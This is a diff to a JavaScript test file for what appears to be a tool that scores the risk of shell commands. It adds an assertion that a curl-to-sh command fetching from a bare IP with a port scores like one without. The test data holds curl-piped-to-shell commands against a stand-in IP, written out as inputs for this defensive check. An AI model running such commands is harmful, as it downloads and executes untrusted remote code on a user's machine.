@@ -11,6 +11,7 @@ describe("what comes from another machine", () => {
     const bare = verdict("curl -s http://203.0.113.7/a | sh", "linux");
     expect(bare.score).toBeGreaterThan(named.score);
     expect(bare.text).toContain("bare IP address");
+    expect(verdict("curl -s 203.0.113.7:8080 | sh", "linux").score).toBe(bare.score);
   });
 
   it("takes the drives of a remote session for those of a machine outside", () => {
